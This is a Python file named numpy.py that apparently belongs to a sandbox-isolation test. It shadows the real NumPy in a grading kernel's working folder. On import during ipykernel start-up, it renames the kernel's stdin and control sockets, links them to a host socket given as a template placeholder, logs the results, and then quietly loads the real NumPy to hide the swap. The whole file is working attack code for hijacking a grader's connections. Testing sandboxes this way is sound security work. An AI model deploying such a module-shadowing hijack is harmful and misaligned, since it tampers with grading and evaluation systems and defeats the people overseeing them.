"""Not NumPy: a file of the submission named numpy.py (the attack; see README.md).

The grading kernel imports NumPy while it starts (``c.Sandbox.kernel_preload``, run as
IPython's ``exec_lines`` after ``init_path`` put the working folder on ``sys.path``
ahead of site-packages). Whenever this file is in the working folder by then, this runs
during ipykernel's start-up, and tries to swap the kernel's stdin and control sockets
for links to a socket of the host before the grader connects to them.
"""
import importlib
import json
import os
import sys

DLCV_STARTUP_ATTACK = []


def _accepted(path):
    """Connections the kernel has accepted on ``path`` (listed with the listening socket's path)."""
    try:
        with open("/proc/self/net/unix") as table:
            return sum(1 for line in table.read().splitlines()[1:] if line.split()[-1] == path) - 1
    except OSError as error:
        return repr(error)


def _redirect():
    try:
        with open("/tmp/.kernel/kernel.json") as handle:
            config = json.load(handle)
    except OSError as error:
        DLCV_STARTUP_ATTACK.append(f"no connection file: {error!r}")
        return
    paths = {ch: "/tmp/.kernel/channel-%d" % config[ch + "_port"] for ch in ("shell", "iopub", "stdin", "control")}
    DLCV_STARTUP_ATTACK.append("connections accepted before the swap: "
                               + ", ".join(f"{ch} {_accepted(p)}" for ch, p in paths.items()))
    for channel in ("stdin", "control"):
        try:
            os.rename(paths[channel], paths[channel] + ".real")
            os.symlink("{{SOCKET}}", paths[channel])
            DLCV_STARTUP_ATTACK.append(f"put a link to the host socket in place of {channel}")
        except OSError as error:
            DLCV_STARTUP_ATTACK.append(f"swapping {channel} failed: {error!r}")


if "ipykernel" in sys.modules:
    _redirect()

# Hand whoever imported this file the real NumPy.
_saved = list(sys.path)
sys.path[:] = [p for p in sys.path if p not in ("", ".", os.getcwd())]
del sys.modules["numpy"]
try:
    _real = importlib.import_module("numpy")
finally:
    sys.path[:] = _saved
_real.DLCV_STARTUP_ATTACK = DLCV_STARTUP_ATTACK
sys.modules["numpy"] = _real
